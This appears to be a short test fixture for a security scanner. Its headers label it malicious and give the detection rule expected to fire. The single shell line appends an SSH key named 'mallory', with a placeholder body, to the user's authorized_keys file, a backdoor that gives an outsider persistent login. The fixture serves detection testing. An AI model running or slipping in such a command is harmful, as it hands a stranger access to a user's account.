# does: lets a key of somebody else log in
# kind: malicious
# expect: SEN-021 high medium
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyFakeKeyFakeKeyFakeKeyFakeKeyFakeK mallory' >> "$HOME/.ssh/authorized_keys"
